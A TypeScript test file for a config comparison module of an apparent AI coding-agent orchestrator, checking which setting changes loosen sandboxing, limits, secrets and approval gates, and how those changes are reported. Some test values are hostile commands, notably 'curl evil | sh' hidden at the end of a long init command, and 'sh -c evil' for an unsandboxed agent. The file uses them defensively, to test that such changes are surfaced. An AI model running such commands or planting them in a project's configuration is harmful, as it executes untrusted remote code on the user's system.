import assert from "node:assert/strict";
import { test } from "node:test";
import { compareConfigs, needsStart } from "../../src/config/compare.ts";
import { parseConfig } from "../../src/config/load.ts";
import { configJsonSchema } from "../../src/config/schema/json-schema.ts";

type Json = Record<string, unknown>;

const BASE: Json = {
  github: { repo: "acme/app" },
  agents: { a: { command: "a" }, b: { adapter: "codex" } },
  stages: { default: "a" },
  presets: { p: {} },
  plugins: { x: { module: "./x.ts" }, y: { module: "./y.ts" } },
  bridges: { z: { module: "./x.ts" } },
  globalPlugins: { gx: { module: "./x.ts" }, gy: { module: "./y.ts" } },
  globalBridges: { gz: { module: "./x.ts" } },
  notify: { channels: { c: { kind: "desktop" } } },
};

/** The config with one value, at a key like `limits.runTimeout`, replaced; undefined takes it away. */
function configWith(key: string, value: unknown) {
  const file = structuredClone(BASE);
  const parts = key.split(".");
  let place = file;
  for (const part of parts.slice(0, -1)) {
    place[part] ??= {};
    place = place[part] as Json;
  }
  if (value === undefined) delete place[parts.at(-1) ?? ""];
  else place[parts.at(-1) ?? ""] = value;
  return parseConfig(JSON.stringify(file), "config.json");
}

const ABSENT = undefined;
/** A key, a value, another, and whether to go there loosens; and whether the way back does. */
const ROWS: readonly (readonly [key: string, from: unknown, to: unknown, there: boolean, back: boolean])[] = [
  ["baseBranch", "main", "other", true, true],
  ["worktreesDir", ABSENT, "trees", true, true],
  ["copyFiles", [], [".env"], true, false],
  ["commit.signoff", false, true, true, false],
  ["ports.from", 41_000, 42_000, false, false],
  ["trustedFilters", ["lfs"], [], false, true],
  ["initCommands", ["npm ci"], [], true, true],
  ["checks", ["npm test"], ["npm test", "npm run lint"], false, true],
  ["checks", ["npm test"], ["true"], true, true],
  ["checks", ["one", "two"], ["two", "one"], false, false],
  ["review", "off", "end", false, true],
  ["authors.bob", "read", "write", true, false],
  ["authors.bob", ABSENT, "read", false, true],
  ["authors.anna", ABSENT, "admin", true, false],
  ...["investigating", "planning", "plan", "implementing", "pr", "done"].map(
    (phase) => [`writeback.${phase}`, true, false, false, false] as const,
  ),
  ["review", "todo", "end", true, true],
  ["cleanAfter", "7d", "0s", true, true],
  ["agents.c", ABSENT, { command: "c" }, true, false],
  ["agents.a.adapter", "command", "acp", true, true],
  ["agents.a.command", "a", "b", true, true],
  ["agents.a.args", ["x"], ["y"], true, true],
  ["agents.a.env", { X: "1" }, { X: "2" }, true, true],
  ["agents.a.passEnv", [], ["KEY"], true, false],
  ["agents.a.model", "small", "big", true, true],
  ["agents.a.sandbox", "bwrap", "none", true, false],
  ["agents.a.sandbox", "bwrap", "auto", true, false],
  ["agents.a.sandbox", "auto", "none", true, false],
  ["agents.a.readable", [], ["tools"], true, false],
  ["agents.a.keeps", [], [".memory"], true, false],
  ["agents.b.projectSettings", false, true, true, false],
  ["agents.a.session", "todo", "plan", false, false],
  ["agents.a.maxRunning", 1, ABSENT, true, false],
  ["agents.a.price", { input: 1, output: 1 }, { input: 1, output: 2 }, true, true],
  ["stages.default", "a", "b", true, true],
  ["stages.designer", ABSENT, "b", true, true],
  ["stages.worker", ABSENT, "b", true, true],
  ["stages.triage", ABSENT, "b", true, true],
  ["stages.reviewer", ABSENT, "b", true, true],
  ["limits.maxRunningAgents", 3, 4, true, false],
  ["limits.maxOpenPlans", 20, 21, true, false],
  ["limits.attemptsPerTodo", 3, 4, true, false],
  ["limits.runTimeout", "2h", "3h", true, false],
  ["limits.silenceTimeout", "30m", "31m", true, false],
  ["limits.checkTimeout", "15m", "16m", true, false],
  ["limits.stopGrace", "5s", "6s", true, false],
  ["limits.maxOutput", "16MB", "17MB", true, false],
  ["limits.maxProcesses", 2048, 2049, true, false],
  ["limits.maxDeletions.files", 200, 201, true, false],
  ["limits.maxDeletions.percent", 20, 21, true, false],
  ["limits.budget.tokens", 10, ABSENT, true, false],
  ["limits.budget.usd", 10, 11, true, false],
  ["limits.budget.minutes", 10, ABSENT, true, false],
  ["limits.dailyBudget.tokens", 10, ABSENT, true, false],
  ["limits.dailyBudget.usd", 10, ABSENT, true, false],
  ["limits.dailyBudget.minutes", 10, 11, true, false],
  ["limits.reviewRounds", 2, 3, true, false],
  ["limits.ciAttempts", 3, 4, true, false],
  ["limits.commentsPerHour", 30, 40, true, false],
  ["limits.perSource.plans", 3, 4, true, false],
  ["limits.perSource.usd", 10, ABSENT, true, false],
  ["bus.maxAttempts", 10, 11, false, false],
  ["bus.retryMin", "1s", "2s", false, false],
  ["bus.retryMax", "5m", "6m", false, false],
  ["bus.maxAge", "72h", "73h", false, false],
  ["bus.hookTimeout", "5m", "6m", false, false],
  ["bus.bridgeTimeout", "60s", "61s", false, false],
  ["bus.pollEvery", "30s", "31s", false, false],
  ["bus.gatherReviews", "30s", "31s", false, false],
  ["plugins.x", { module: "./x.ts" }, ABSENT, true, true],
  ["plugins.x.enabled", true, false, true, true],
  ["plugins.x.module", "./x.ts", "./z.ts", true, true],
  ["plugins.x.config", { a: 1 }, { a: 2 }, true, true],
  ["pluginOrder", ["x", "y"], ["y", "x"], true, true],
  ["bridges.z.enabled", true, false, true, true],
  ["bridges.z.module", "./x.ts", "./z.ts", true, true],
  ["bridges.z.config", { a: 1 }, { a: 2 }, true, true],
  ["bridges.z.pollEvery", "1s", "2s", true, true],
  ["globalPlugins.gx.enabled", true, false, true, true],
  ["globalPlugins.gx.module", "./x.ts", "./z.ts", true, true],
  ["globalPlugins.gx.config", { a: 1 }, { a: 2 }, true, true],
  ["globalPluginOrder", ["gx", "gy"], ["gy", "gx"], true, true],
  ["globalBridges.gz.enabled", true, false, true, true],
  ["globalBridges.gz.module", "./x.ts", "./z.ts", true, true],
  ["globalBridges.gz.config", { a: 1 }, { a: 2 }, true, true],
  ["globalBridges.gz.pollEvery", "1s", "2s", true, true],
  ["notify.default", [], ["c"], true, true],
  ["gates.plan", false, true, false, true],
  ["gates.pr", false, true, false, true],
  ["gates.approvers", ["a"], ["a", "b"], true, false],
  ["gates.approvers", ["a", "b"], ["B"], false, true],
  ["gates.approvers", ["a"], ["b"], true, true],
  // People without write permission may be among them; without the list everyone with it may answer.
  ["gates.approvers", ABSENT, ["a"], true, true],
  ["gates.signers", ABSENT, "team/signers", true, true],
  ["gates.remindAfter", "24h", "25h", false, false],
  ["gates.expireAfter", ABSENT, "7d", false, false],
  ["gates.advisory", false, true, true, false],
  ["governance.roles.r", ABSENT, { extends: "executor" }, true, false],
  ["governance.roles.r", { extends: "investigator" }, { extends: "executor" }, true, true],
  ["governance.roles.r", { extends: "executor" }, { extends: "executor", tools: ["read"] }, false, true],
  ["governance.roles.r", { extends: "executor" }, { extends: "executor", shell: "reads" }, false, true],
  ["governance.roles.r", { extends: "executor" }, { extends: "executor", paths: ["docs/**"] }, false, true],
  ["governance.roles.r", { extends: "investigator" }, { extends: "investigator", paths: ["docs"] }, true, true],
  ["governance.mcp.reads", [], ["github_get_*"], true, false],
  ["governance.mcp.writes", ["a_b"], ["a_b", "a_c"], true, false],
  ["governance.secrets", [], ["keys/**"], false, true],
  ["governance.secrets", [], ["!src/tokens.json"], true, false],
  ["governance.interpreters", [], ["node"], true, false],
  ["governance.protected", [], [".github/**"], false, true],
  ["governance.maxRepeatedDenials", 3, 4, true, false],
  ["governance.purgeAfter", "48h", "1h", false, false],
  ["presets.q", ABSENT, {}, true, false],
  ["presets.p.checks", ["one"], [], true, false],
  ["presets.p.review", "off", "todo", false, true],
  ["presets.p.limits", { runTimeout: "10m" }, { runTimeout: "20m" }, true, false],
  ["presets.p.agents", {}, { c: { command: "c" } }, true, false],
  ["presets.p.gates", ABSENT, { plan: true }, false, true],
  ["presets.p.stages", {}, { default: "b" }, true, true],
  ["presets.p.plugins", {}, { x: { enabled: false } }, true, true],
  ["presets.p.pluginOrder", ["x", "y"], ["y", "x"], true, true],
  ["presets.p.bridges", {}, { z: { enabled: false } }, true, true],
  ["triggers", [], [{ on: "issue.opened", do: "upsert" }], true, true],
  ["github.repo", "acme/app", "eve/app", true, true],
  ["github.apiUrl", ABSENT, "https://github.test/api/v3", true, true],
  ["github.tokenEnv", ABSENT, "OTHER_TOKEN", true, true],
  ["github.app", ABSENT, { id: 1, privateKeyEnv: "KEY" }, true, true],
  ["github.reserve", ABSENT, 0.5, true, true],
  ["github.trustedBots", [], ["lint[bot]"], true, false],
  ["writeback.body", false, true, true, false],
  ["github.trustBoard", false, true, true, false],
  ["github.rerun", ABSENT, true, false, false],
  ["github.claim", ABSENT, false, false, false],
  ["github.shownAfter", ABSENT, "1m", false, false],
  ["github.update", ABSENT, "merge", false, false],
  ["github.deleteBranch", ABSENT, false, true, true],
  ["forge", ABSENT, "github", true, true],
];

for (const [key, from, to, there, back] of ROWS) {
  test(`${key}: ${JSON.stringify(from)} → ${JSON.stringify(to)}`, () => {
    const [before, after] = [configWith(key, from), configWith(key, to)];
    assert.deepEqual(compareConfigs(before, before), []);
    for (const [one, other, loosens] of [
      [before, after, there],
      [after, before, back],
    ] as const) {
      const changes = compareConfigs(one, other);
      assert(changes.length > 0);
      assert.equal(
        changes.some((change) => change.loosens),
        loosens,
        JSON.stringify(changes),
      );
    }
  });
}

test("every key of the schema is judged by a row", () => {
  const { properties } = configJsonSchema() as unknown as { properties: Record<string, { properties?: object }> };
  const keys = Object.entries(properties).flatMap(([key, schema]) =>
    schema.properties ? Object.keys(schema.properties).map((inner) => `${key}.${inner}`) : [key],
  );
  const agent = (properties.agents as unknown as { additionalProperties: { properties: object } }).additionalProperties;
  const preset = (properties.presets as unknown as typeof properties.agents & { additionalProperties: typeof agent })
    .additionalProperties;
  keys.push(...Object.keys(agent.properties).map((key) => `agents.*.${key}`));
  keys.push(...Object.keys(preset.properties).map((key) => `presets.*.${key}`));
  const judged = ROWS.map(([key]) => key.replace(/^(agents|presets)\.[a-z](?=\.)/, "$1.*"));
  const missing = keys.filter((key) => !judged.some((one) => one === key || one.startsWith(`${key}.`)));
  // What notify says is compared as a whole.
  assert.deepEqual(
    missing,
    ["$schema", "agents", "notify.channels", "notify.routes", "presets"].filter((key) => missing.includes(key)),
  );
});

const told = (key: string, from: unknown, to: unknown) =>
  compareConfigs(configWith(key, from), configWith(key, to)).map((one) => `${one.key}: ${one.from} → ${one.to}`);

test("what is told: keys as people write them, no secrets, an agent that is new once, and no change twice", () => {
  assert.deepEqual(told("limits.runTimeout", "2h", "90m"), ["limits.runTimeout: 2h → 90m"]);
  assert.deepEqual(told("limits.maxOutput", "16MB", "1MB"), ["limits.maxOutput: 16MB → 1MB"]);
  assert.deepEqual(told("agents.a.env", { KEY: "secret" }, { KEY: "other" }), [
    "agents.a.env.KEY: a value → other settings",
  ]);
  assert.deepEqual(told("plugins.x.config", { key: "secret" }, {}), ["plugins.x: ./x.ts → other settings"]);
  assert.deepEqual(told("agents.c", ABSENT, { command: "sh evil" }), ["agents.c: absent → an agent (sh evil)"]);
  const role = { extends: "executor", shell: "none" };
  assert.deepEqual(told("governance.roles.r", ABSENT, role), ["governance.roles.r: absent → a role (executor)"]);
  assert.deepEqual(told("governance.roles.r", role, { extends: "executor" }), [
    "governance.roles.r.shell: none → work",
  ]);
  assert.deepEqual(told("checks", ["npm test"], []), ['checks: ["npm test"] → []']);
  const unguarded = { command: "sh", args: ["-c", "evil"], sandbox: "none" };
  assert.deepEqual(told("agents.c", ABSENT, unguarded), [
    "agents.c: absent → an agent (sh -c evil, without a sandbox)",
  ]);
});

test("a command is told to its end, since that may be what matters in it", () => {
  const long = `npm ci ${"--quiet ".repeat(40)}; curl evil | sh`;
  assert.deepEqual(told("initCommands", ["npm ci"], [long]), [`initCommands: ["npm ci"] → ["${long}"]`]);
  const [change] = told("initCommands", [], ["x".repeat(100_000)]);
  assert.match(change ?? "", /x… \(96004 more characters\)$/);
});

test("a change of a preset is told, though what people are shown of it is the same as elsewhere", () => {
  const long = `npm run check -- ${"x".repeat(100)}`;
  const config = (checks: readonly string[], ofPreset: readonly string[]) =>
    parseConfig(JSON.stringify({ ...BASE, checks, presets: { p: { checks: ofPreset } } }), "config.json");
  // The file's checks become more, the preset's fewer: cut after a hundred characters both read alike.
  const changes = compareConfigs(config([long, "one"], [long, "one"]), config([long, "one", "two"], [long]));
  assert.deepEqual(
    changes.filter(({ loosens }) => loosens).map(({ key }) => key),
    ["presets.p.checks"],
  );
});

test("a start is needed for modules, notifications and the place of worktrees, and for nothing else", () => {
  const fixed =
    /^(plugins|bridges|globalPlugins|globalBridges|pluginOrder|globalPluginOrder|forge|commit|github|notify|worktreesDir|presets\.p\.(plugins|pluginOrder|bridges))\b/;
  for (const [key, from, to] of ROWS)
    assert.equal(needsStart(configWith(key, from), configWith(key, to)), fixed.test(key), key);
});

test("a start is needed for a board that was not looked at, and not for other triggers", () => {
  const withTriggers = (...triggers: Json[]) =>
    parseConfig(JSON.stringify({ ...BASE, github: { repo: "acme/app" }, triggers }), "config.json");
  const label = { on: "issue.labeled", label: "loom", do: "queue" };
  const board = { on: "issue.moved", project: "acme/3", column: "Todo", do: "queue" };
  assert.equal(needsStart(withTriggers(), withTriggers(label)), false);
  assert.equal(needsStart(withTriggers(label), withTriggers(label, board)), true);
  assert.equal(needsStart(withTriggers(board), withTriggers({ ...board, column: "Ready" })), true);
});

test("a dot in a name does not lead to a setting", () => {
  const named = (agents: Json, stage: string) =>
    parseConfig(JSON.stringify({ agents, stages: { default: stage } }), "config.json");
  const before = named({ a: { command: "a" }, "agent.sh": { command: "b", sandbox: "auto" } }, "a");
  const tighter = named({ a: { command: "a" }, "agent.sh": { command: "b", sandbox: "bwrap" } }, "a");
  assert.deepEqual(compareConfigs(before, tighter), [
    { key: "agents.agent.sh.sandbox", from: "auto", to: "bwrap", loosens: false },
  ]);
  assert.deepEqual(compareConfigs(before, named({ a: { command: "a" } }, "a")), [
    { key: "agents.agent.sh", from: "an agent (b)", to: "absent", loosens: false },
  ]);
});

test("an agent whose name ends like a setting does not hide that setting", () => {
  const named = (value: string) => ({
    agents: { a: { command: "a", env: { command: value } }, "a.env": { command: "b" } },
    stages: { default: "a" },
  });
  const [before, after] = [named("x"), named("y")].map((file) => parseConfig(JSON.stringify(file), "config.json"));
  assert(before && after);
  assert.deepEqual(compareConfigs(before, after), [
    { key: "agents.a.env.command", from: "a value", to: "other settings", loosens: true },
  ]);
});
